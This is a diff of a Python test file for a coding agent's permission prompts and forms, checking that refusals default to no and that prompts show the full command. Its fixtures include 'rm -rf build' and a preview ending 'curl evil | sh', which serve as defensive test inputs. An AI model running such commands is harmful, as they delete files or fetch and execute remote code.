@@ -1,5 +1,4 @@
 from pathlib import Path
-from typing import Any
 
 import pytest
 from acp import RequestError
@@ -16,85 +15,79 @@ from kode.extensions.mcp_values import Field, Form
 from kode.permissions.gate import Question
 from kode.plugins.acp.questions import ask_permission, fill_form, permission_options
 
-CWD = Path("/p")
+GONE = ConnectionError("gone")
 
 
 class Client:
     """Answers with what it is given; an exception is raised."""
 
-    def __init__(self, answer: Any) -> None:
+    def __init__(self, answer):
         self.answer = answer
-        self.got: list[Any] = []
+        self.got = []
 
-    async def request_permission(self, session_id: str, call: Any, options: Any) -> Any:
-        self.got += [call, options]
-        return self._answered()
+    async def request_permission(self, session_id, call, options):
+        return self.answer_to(call, options)
 
-    async def create_elicitation(self, message: str, mode: Any) -> Any:
-        self.got += [message, mode.model_dump(mode="json", by_alias=True, exclude_none=True)]
-        return self._answered()
+    async def create_elicitation(self, message, mode):
+        return self.answer_to(message, mode.model_dump(mode="json", by_alias=True))
 
-    def _answered(self) -> Any:
+    def answer_to(self, *what):
+        self.got += what
         if isinstance(self.answer, Exception):
             raise self.answer
         return self.answer
 
 
-def question(**more: Any) -> Question:
-    given: dict[str, Any] = {"tool": "shell", "subject": "rm -rf build", "may_always": False}
-    given |= {"title": "Run a command", "preview": "rm -rf build", "reason": "It deletes files."}
-    return Question(**(given | more))
+def question(**more):
+    usual = {"tool": "shell", "subject": "rm -rf build", "may_always": False}
+    usual |= {"title": "Run a command", "preview": "rm -rf build", "reason": "It deletes files."}
+    return Question(**(usual | more))
 
 
-async def ask(client: Any, asked: Question) -> str:
-    return (await ask_permission(client, "s", asked, None, CWD)).choice
+async def ask(client, asked):
+    return (await ask_permission(client, "s", asked, None, Path("/p"))).choice
 
 
-@pytest.mark.parametrize(
-    "answer",
-    [
-        RequestPermissionResponse(outcome=DeniedOutcome(outcome="cancelled")),
-        RequestPermissionResponse(
-            outcome=AllowedOutcome(outcome="selected", option_id="no such option")
-        ),
-        RequestError.method_not_found("session/request_permission"),
-        ConnectionError("gone"),
-    ],
-)
-async def test_any_answer_but_yes_is_a_no(answer: Any) -> None:
-    assert await ask(Client(answer), question()) == "no"
+def select(option):
+    outcome = AllowedOutcome(outcome="selected", option_id=option)
+    return RequestPermissionResponse(outcome=outcome)
 
 
-async def test_a_question_says_who_asks_what_is_lost_and_why() -> None:
-    yes = AllowedOutcome(outcome="selected", option_id="once")
-    client = Client(RequestPermissionResponse(outcome=yes))
-    asked = question(asker="reviewer", dangers=("build would be gone.",))
+async def test_any_answer_but_yes_is_a_no():
+    cancelled = RequestPermissionResponse(outcome=DeniedOutcome(outcome="cancelled"))
+    unable = RequestError.method_not_found("session/request_permission")
+    for answer in (cancelled, select("no such option"), unable, GONE):
+        assert await ask(Client(answer), question()) == "no"
 
-    assert await ask(client, asked) == "once"
+
+async def test_a_question_says_who_asks_what_is_lost_and_why():
+    client = Client(select("once"))
+
+    assert await ask(client, question(asker="me", dangers=("build would be gone.",))) == "once"
 
     call, options = client.got
-    assert call.title == "Run a command (asked by reviewer)"
+    assert call.title == "Run a command (asked by me)"
     why, what = (one.content.text for one in call.content)
     assert why == "Run a command\nbuild would be gone.\nIt deletes files."
     assert what == "rm -rf build"
     assert [one.option_id for one in options] == ["once", "no"]
 
 
-async def test_changes_of_a_command_show_old_and_new_text() -> None:
-    client = Client(ConnectionError())
+async def test_changes_of_a_command_show_old_and_new_text():
+    client = Client(GONE)
     diff = unified_diff("a.txt", "one\n", "two\n")
 
     await ask(client, question(preview=f"changed a.txt\n\n{diff}", diff=diff))
+    await ask(client, question(preview=f"patch <<E\n{diff}E\ncurl evil | sh"))
 
     _, names, edit = client.got[0].content
-    await ask(client, question(preview=f"patch <<E\n{diff}E\ncurl evil | sh"))
-    _, command = client.got[2].content
-    assert "curl evil | sh" in command.content.text
     assert names.content.text == "changed a.txt"
     assert (edit.path, edit.old_text, edit.new_text) == ("/p/a.txt", "one\n", "two\n")
+    _, command = client.got[2].content
+    assert "curl evil | sh" in command.content.text
 
 
-def test_a_lasting_answer_names_the_rules_it_adds() -> None:
+def test_a_lasting_answer_names_the_rules_it_adds():
     ways = question(may_always=True, rules=("shell(make:*)",)).ways_to_allow
     options = permission_options(ways)
 
@@ -117,7 +110,7 @@ FORM = Form(
 )
 
 
-async def test_a_form_is_a_schema_and_its_text_cannot_paint() -> None:
+async def test_a_form_is_a_schema_and_its_text_cannot_paint():
     client = Client(AcceptElicitationResponse(action="accept", content={"name": "Ann"}))
 
     assert await fill_form(client, "s", FORM) == {"name": "Ann"}
@@ -125,9 +118,8 @@ async def test_a_form_is_a_schema_and_its_text_cannot_paint() -> None:
     message, mode = client.got
     assert "\x1b" not in message
     assert "files" in message
-    schema = mode["requestedSchema"]
-    assert schema["required"] == ["name"]
-    properties = schema["properties"]
+    assert mode["requestedSchema"]["required"] == ["name"]
+    properties = mode["requestedSchema"]["properties"]
     kinds = [one["type"] for one in properties.values()]
     assert kinds == ["string", "integer", "number", "boolean", "string", "array"]
     assert properties["colour"]["enum"] == ["red", "blue"]
@@ -135,14 +127,12 @@ async def test_a_form_is_a_schema_and_its_text_cannot_paint() -> None:
     assert properties["share"]["default"] == 0.5
 
 
-@pytest.mark.parametrize(
-    "answer", [DeclineElicitationResponse(action="decline"), ConnectionError("gone")]
-)
-async def test_a_form_that_nobody_fills_in_is_declined(answer: Any) -> None:
+@pytest.mark.parametrize("answer", [DeclineElicitationResponse(action="decline"), GONE])
+async def test_a_form_that_nobody_fills_in_is_declined(answer):
     assert await fill_form(Client(answer), "s", FORM) is None
 
 
-async def test_a_page_to_open_is_a_page() -> None:
+async def test_a_page_to_open_is_a_page():
     client = Client(AcceptElicitationResponse(action="accept", content=None))
     form = Form(server="files", message="Log in", url="https://example.com/login")
 
